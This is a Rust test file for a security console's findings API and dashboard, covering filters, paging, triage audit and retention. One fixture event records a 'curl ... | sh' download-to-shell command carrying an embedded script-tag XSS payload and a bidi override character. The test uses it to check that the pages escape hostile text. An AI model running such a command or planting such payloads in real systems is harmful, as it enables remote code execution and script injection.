//! Findings as operators work them, on both backends: filters, keyset pages, grouping, triage
//! (one and in bulk) with its audit trail, the finding and host pages, and retention — and a
//! flooding agent that cannot push another agent's findings out of reach.

#![allow(
    clippy::expect_used,
    clippy::unwrap_used,
    reason = "test code: a failure is the test failing"
)]

mod common;

use std::collections::BTreeSet;

use axum::http::StatusCode;
use common::{Agent, Backend, TestConsole, console};
use ringfence_console::retention::{self, Retention};
use serde_json::{Value, json};

both!(
    findings_read_and_triage,
    a_flooding_agent_cannot_push_others_out_of_reach,
    retention_deletes_old_and_excess_findings,
);

fn curl_pipe(host: &str) -> Value {
    json!({
        "@timestamp": "2026-05-28T12:00:00Z",
        "event": {"kind": "alert", "severity": 4},
        "host": {"name": host},
        "user": {"name": "www-data"},
        "rule": {"id": "r-1", "name": "Download piped to a shell", "description": "A download is run by a shell <b>directly</b>."},
        "threat": {"framework": "MITRE ATT&CK", "technique": {"id": ["T1059.004", "T1105"]}, "tactic": {"name": ["execution"]}},
        "ringfence": {"finding": {"level": "high", "tags": ["attack.execution", "attack.t1059.004"]}},
        "process": {
            "pid": 300, "executable": "/bin/sh", "command_line": "sh -c 'curl http://x/<script>alert(1)</script> | sh' \u{202e}",
            "parent": {"pid": 200, "executable": "/usr/sbin/nginx", "name": "nginx", "command_line": "nginx: worker process"},
            "ancestors": {"pid": [200, 1], "executable": ["/usr/sbin/nginx", "/sbin/init"]}
        }
    })
}

fn plain(rule: &str, severity: u8, n: usize) -> Value {
    json!({"event": {"severity": severity}, "rule": {"name": rule}, "n": n,
           "threat": {"technique": {"id": ["T1082"]}}})
}

async fn upload(c: &TestConsole, a: &Agent, findings: Vec<Value>) {
    let body = json!({"protocol": 1, "agent_id": a.id, "findings": findings});
    let cred = a.credential.as_str().to_owned();
    let (status, v) = c
        .call(
            "POST",
            "/api/v1/agents/findings",
            Some(&cred),
            Some(serde_json::to_vec(&body).unwrap()),
        )
        .await;
    assert_eq!(status, StatusCode::OK, "{v}");
}

/// Every finding the API reaches under `query`, paging with its cursor; the pages' sizes.
async fn all_pages(c: &TestConsole, query: &str) -> (Vec<i64>, Vec<usize>) {
    all_pages_from(c, query, None).await
}

/// [`all_pages`] from the page after `cursor`.
async fn all_pages_from(
    c: &TestConsole,
    query: &str,
    mut cursor: Option<String>,
) -> (Vec<i64>, Vec<usize>) {
    let mut ids = Vec::new();
    let mut sizes = Vec::new();
    loop {
        let uri = match &cursor {
            Some(cur) => format!("/api/v1/findings?{query}&cursor={cur}"),
            None => format!("/api/v1/findings?{query}"),
        };
        let (status, headers, body) = c
            .call_raw("GET", &uri, Some(&c.token.clone()), &[], None)
            .await;
        assert_eq!(status, StatusCode::OK, "{}", String::from_utf8_lossy(&body));
        let rows: Vec<Value> = serde_json::from_slice(&body).unwrap();
        sizes.push(rows.len());
        ids.extend(rows.iter().map(|r| r["id"].as_i64().unwrap()));
        match headers.get("x-ringfence-next-cursor") {
            Some(v) => cursor = Some(v.to_str().unwrap().to_owned()),
            None => return (ids, sizes),
        }
        assert!(sizes.len() < 1000, "paging does not end");
    }
}

async fn findings_read_and_triage(b: Backend) {
    let c = console(b).await;
    let agents = c.enroll(2, |_| json!({})).await;
    let (a, other) = (&agents[0], &agents[1]);
    upload(
        &c,
        a,
        vec![
            curl_pipe("web-3"),
            plain("Discovery", 2, 0),
            plain("Discovery", 2, 1),
        ],
    )
    .await;
    c.clock.advance_ms(60_000);
    // The agent folded 7 repeats of one of these into one finding.
    let mut folded = plain("Discovery", 3, 2);
    folded["ringfence"] = json!({"finding": {"count": 7}});
    upload(&c, other, vec![folded, plain("Cron change", 5, 3)]).await;

    // Filters.
    let (_, high) = c
        .op("GET", "/api/v1/findings?severity=high", Value::Null)
        .await;
    assert_eq!(high.as_array().unwrap().len(), 1, "{high}");
    let curl = high[0]["id"].as_i64().unwrap();
    assert_eq!(high[0]["technique"], "T1059.004");
    let (_, t) = c
        .op("GET", "/api/v1/findings?technique=t1082", Value::Null)
        .await;
    assert_eq!(t.as_array().unwrap().len(), 4);
    let (_, mine) = c
        .op(
            "GET",
            &format!("/api/v1/findings?agent={}", a.id),
            Value::Null,
        )
        .await;
    assert_eq!(mine.as_array().unwrap().len(), 3);
    let (_, rule) = c
        .op(
            "GET",
            "/api/v1/findings?rule=Discovery&status=open",
            Value::Null,
        )
        .await;
    assert_eq!(rule.as_array().unwrap().len(), 3);
    for bad in [
        "status=done",
        "severity=awful",
        "cursor=1.x",
        "since=yesterday",
        "last=1y",
    ] {
        let (status, v) = c
            .op("GET", &format!("/api/v1/findings?{bad}"), Value::Null)
            .await;
        assert_eq!(status, StatusCode::BAD_REQUEST, "{bad}: {v}");
    }

    // Grouping.
    let (_, groups) = c
        .op("GET", "/api/v1/findings/groups?by=rule", Value::Null)
        .await;
    assert_eq!(groups[0]["key"], "Discovery", "{groups}");
    assert_eq!(groups[0]["count"], 3);
    assert_eq!(groups[0]["matches"], 9);
    assert!(groups[0]["first_seen"].as_i64() < groups[0]["last_seen"].as_i64());
    let (_, hosts) = c
        .op("GET", "/api/v1/findings/groups?by=host", Value::Null)
        .await;
    assert_eq!(hosts.as_array().unwrap().len(), 2, "{hosts}");

    // Triage: closing needs a reason from the list; every change is audited with who and why.
    let uri = format!("/api/v1/findings/{curl}");
    let (status, v) = c.op("PATCH", &uri, json!({"status": "closed"})).await;
    assert_eq!(status, StatusCode::BAD_REQUEST, "{v}");
    let (status, v) = c
        .op(
            "PATCH",
            &uri,
            json!({"status": "closed", "close_reason": "wrong"}),
        )
        .await;
    assert_eq!(status, StatusCode::BAD_REQUEST, "{v}");
    let (status, v) = c
        .op("PATCH", &uri, json!({"assignee": "bob\u{202e}"}))
        .await;
    assert_eq!(status, StatusCode::BAD_REQUEST, "{v}");
    let (status, v) = c
        .op(
            "PATCH",
            &uri,
            json!({"status": "closed", "close_reason": "true_positive", "assignee": "alice",
                   "tags": ["ir-42", "web"], "comment": "contained", "why": "reimaged web-3"}),
        )
        .await;
    assert_eq!(status, StatusCode::OK, "{v}");
    assert_eq!(v["status"], "closed");
    assert_eq!(v["tags"], "ir-42,web");
    let (status, v) = c
        .op(
            "PATCH",
            "/api/v1/findings/999999",
            json!({"status": "open"}),
        )
        .await;
    assert_eq!(status, StatusCode::NOT_FOUND, "{v}");
    let (_, one) = c.op("GET", &uri, Value::Null).await;
    let h = &one["history"][0];
    assert_eq!(h["actor"], "admin");
    assert_eq!(
        h["decision"],
        "closed (true_positive), assigned to alice, tags [ir-42,web], comment"
    );
    assert!(h["evidence"].as_str().unwrap().contains("reimaged web-3"));

    // Bulk over a filter: one audit entry per finding.
    let (status, v) = c
        .op(
            "POST",
            "/api/v1/findings/bulk",
            json!({"filter": {"agent": other.id}, "change": {"status": "acknowledged", "why": "looking"}}),
        )
        .await;
    assert_eq!(status, StatusCode::OK, "{v}");
    assert_eq!(v["changed"], 2);
    assert_eq!(v["more"], false);
    let (_, acked) = c
        .op("GET", "/api/v1/findings?status=acknowledged", Value::Null)
        .await;
    assert_eq!(acked.as_array().unwrap().len(), 2);
    let (_, audit) = c.op("GET", "/api/v1/audit?limit=100", Value::Null).await;
    let triaged = audit
        .as_array()
        .unwrap()
        .iter()
        .filter(|e| e["action"] == "finding.triage")
        .count();
    assert_eq!(triaged, 3);

    // The finding page: a sentence, the tree, ATT&CK names and links, the rule, the history,
    // the raw event behind a toggle, the host's other findings; hostile text escaped.
    let cookie = c.session().await;
    let html = c.page(&cookie, &format!("/findings/{curl}")).await;
    for want in [
        "Download piped to a shell: sh -c &#39;curl http://x/&lt;script&gt;alert(1)&lt;/script&gt; | sh&#39; \\u{202e} run by www-data under nginx on web-3",
        "aria-label=\"process tree\"",
        "nginx: worker process",
        "/sbin/init",
        "https://attack.mitre.org/techniques/T1059/004/",
        "Command and Scripting Interpreter: Unix Shell",
        "https://attack.mitre.org/tactics/TA0002/",
        "A download is run by a shell &lt;b&gt;directly&lt;/b&gt;.",
        "<details class=\"panel raw\"><summary>Raw event</summary>",
        "reimaged web-3",
        "class=\"badge sev-high\"",
        "closed · true positive",
        "ir-42",
    ] {
        assert!(
            html.contains(want),
            "missing {want:?} in the finding page:\n{html}"
        );
    }
    assert!(!html.contains("<script>alert"), "unescaped script");
    assert!(!html.contains('\u{202e}'), "unescaped bidi override");
    // Its host's other findings within the hour.
    assert!(html.matches("href=\"/findings/").count() >= 2, "{html}");

    // The list: words and colours for severity, a sentence per row, filters kept in the form.
    let list = c.page(&cookie, "/findings?severity=medium").await;
    assert!(list.contains("class=\"badge sev-medium\""), "{list}");
    assert!(!list.contains("sev-high"), "{list}");
    assert!(list.contains("<option selected>medium</option>"), "{list}");
    let grouped = c.page(&cookie, "/findings?group=technique").await;
    assert!(grouped.contains("/findings?technique=T1082"), "{grouped}");

    // The host page: versions, health, its findings, its orders.
    let mut a2 = a.clone();
    c.checkin(&mut a2, json!({"crashes": 1})).await;
    let host = c.page(&cookie, &format!("/agents/{}", a.id)).await;
    for want in [
        "agent version",
        "0.1.0",
        "Health, last 24 hours",
        "aria-label=\"health timeline\"",
        "No orders sent",
        "Download piped to a shell",
    ] {
        assert!(
            host.contains(want),
            "missing {want:?} in the host page:\n{host}"
        );
    }
    let (status, _, _) = c
        .call_raw(
            "GET",
            "/agents/nope",
            None,
            &[("cookie", cookie.as_str())],
            None,
        )
        .await;
    assert_eq!(status, StatusCode::NOT_FOUND);
    // The fleet page draws findings over time by severity.
    let fleet = c.page(&cookie, "/fleet").await;
    assert!(
        fleet.contains("aria-label=\"findings per hour by severity\""),
        "{fleet}"
    );
    assert!(fleet.contains("class=\"sev4\""), "{fleet}");
}

async fn a_flooding_agent_cannot_push_others_out_of_reach(b: Backend) {
    let c = console(b).await;
    let agents = c.enroll(2, |_| json!({})).await;
    let (quiet, flood) = (&agents[0], &agents[1]);
    upload(&c, quiet, (0..5).map(|n| plain("quiet", 3, n)).collect()).await;
    let mut expected = 5;
    for round in 0..3 {
        c.clock.advance_ms(60_000);
        upload(
            &c,
            flood,
            (0..1000)
                .map(|n| plain("flood", 2, round * 1000 + n))
                .collect(),
        )
        .await;
        expected += 1000;
    }
    // Paging reaches every finding, each page bounded, the quiet agent's among them.
    let (ids, sizes) = all_pages(&c, "limit=700").await;
    assert_eq!(ids.len(), expected);
    assert_eq!(
        ids.iter().collect::<BTreeSet<_>>().len(),
        expected,
        "a finding twice"
    );
    assert!(sizes.iter().all(|n| *n <= 700), "{sizes:?}");
    let (quiet_ids, _) = all_pages(&c, &format!("agent={}", quiet.id)).await;
    assert_eq!(quiet_ids.len(), 5);
    assert!(quiet_ids.iter().all(|id| ids.contains(id)));
    // A page size beyond the bound is cut to it.
    let (_, huge) = c
        .op("GET", "/api/v1/findings?limit=100000000", Value::Null)
        .await;
    assert_eq!(huge.as_array().unwrap().len(), 1000);

    // New findings arriving while an operator pages do not shift the pages: nothing skipped
    // or shown twice.
    let (status, headers, body) = c
        .call_raw(
            "GET",
            "/api/v1/findings?limit=1000",
            Some(&c.token.clone()),
            &[],
            None,
        )
        .await;
    assert_eq!(status, StatusCode::OK);
    let first: Vec<Value> = serde_json::from_slice(&body).unwrap();
    let cursor = headers["x-ringfence-next-cursor"]
        .to_str()
        .unwrap()
        .to_owned();
    c.clock.advance_ms(60_000);
    upload(&c, flood, (0..500).map(|n| plain("flood", 2, n)).collect()).await;
    let (rest, _) = all_pages_from(&c, "limit=1000", Some(cursor)).await;
    let mut seen: Vec<i64> = first.iter().map(|r| r["id"].as_i64().unwrap()).collect();
    seen.extend(rest);
    assert_eq!(seen.len(), expected);
    assert_eq!(
        seen.iter().collect::<BTreeSet<_>>(),
        ids.iter().collect::<BTreeSet<_>>()
    );

    // The dashboard reaches them too: by host, and page after page.
    let cookie = c.session().await;
    let html = c
        .page(&cookie, &format!("/findings?agent={}", quiet.id))
        .await;
    assert_eq!(
        html.matches("class=\"badge sev-medium\"").count(),
        5,
        "{html}"
    );
    let first_page = c.page(&cookie, "/findings").await;
    let next = first_page
        .split("id=\"next-page\" href=\"")
        .nth(1)
        .and_then(|s| s.split('"').next())
        .expect("a next page link")
        .replace("&amp;", "&");
    let second = c.page(&cookie, &next).await;
    assert!(second.contains("flood"), "{second}");

    // Retention trims the flooding agent to its share; the quiet agent keeps everything.
    let r = Retention {
        findings_per_agent_max: 1000,
        ..Retention::default()
    };
    let swept = retention::enforce(&c.state, &r).await.unwrap();
    assert_eq!(swept.findings_over_agent, 2500);
    let (quiet_ids, _) = all_pages(&c, &format!("agent={}", quiet.id)).await;
    assert_eq!(quiet_ids.len(), 5);
    let (flood_ids, _) = all_pages(&c, &format!("agent={}&limit=1000", flood.id)).await;
    assert_eq!(flood_ids.len(), 1000);
}

async fn retention_deletes_old_and_excess_findings(b: Backend) {
    let mut c = console(b).await;
    let mut agents = c.enroll(1, |_| json!({})).await;
    let (status, _) = c.checkin(&mut agents[0], json!({})).await;
    assert_eq!(status, StatusCode::OK);
    let a = &agents[0];
    upload(&c, a, (0..30).map(|n| plain("old", 2, n)).collect()).await;
    c.clock.advance_ms(60 * 86_400_000);
    upload(&c, a, (0..20).map(|n| plain("new", 2, n)).collect()).await;
    // Over the count: the oldest go.
    let r = Retention {
        findings_max_count: 40,
        ..Retention::default()
    };
    let swept = retention::enforce(&c.state, &r).await.unwrap();
    assert_eq!(swept.findings_over_count, 10);
    // The check-in is 60 days old: past its 30.
    assert_eq!(swept.checkins, 1);
    assert_eq!(c.count("checkins").await, 0);
    assert_eq!(c.count("findings").await, 40);
    let (_, rows) = c.op("GET", "/api/v1/findings?rule=new", Value::Null).await;
    assert_eq!(rows.as_array().unwrap().len(), 20);
    // Past the age: gone. (91 days on, the operator's 90-day API token has expired too: a
    // new one.)
    c.clock.advance_ms(31 * 86_400_000);
    c.token = ringfence_console::auth::create_operator(&c.state, "admin", "hunter2-but-longer")
        .await
        .unwrap();
    let swept = retention::enforce(&c.state, &Retention::default())
        .await
        .unwrap();
    assert_eq!(swept.findings_aged, 20);
    assert_eq!(swept.audit, 0, "the audit log is kept 400 days");
    assert_eq!(c.count("findings").await, 20);
    let (_, rows) = c.op("GET", "/api/v1/findings?rule=old", Value::Null).await;
    assert!(rows.as_array().unwrap().is_empty());
}
